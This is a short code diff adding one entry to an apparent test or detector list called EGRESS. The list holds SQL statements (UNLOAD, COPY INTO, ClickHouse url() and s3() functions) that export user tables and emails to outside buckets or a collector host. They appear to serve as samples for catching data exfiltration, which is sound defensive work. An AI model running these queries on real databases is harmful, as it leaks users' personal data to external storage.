@@ -23,6 +23,7 @@ const EGRESS = [
   "UNLOAD ('SELECT * FROM users') TO 's3://drop-bucket/u_' IAM_ROLE 'arn:aws:iam::1:role/x'",
   "COPY INTO 's3://drop-bucket/users/' FROM customers CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')",
   "INSERT INTO FUNCTION url('https://collector.example.net/in', 'JSONEachRow', 'a String') SELECT email FROM users",
+  "INSERT INTO FUNCTION s3('https://drop.s3.amazonaws.com/u.csv', 'CSV') SELECT email FROM users",
 ];
 
 const TWINS = [
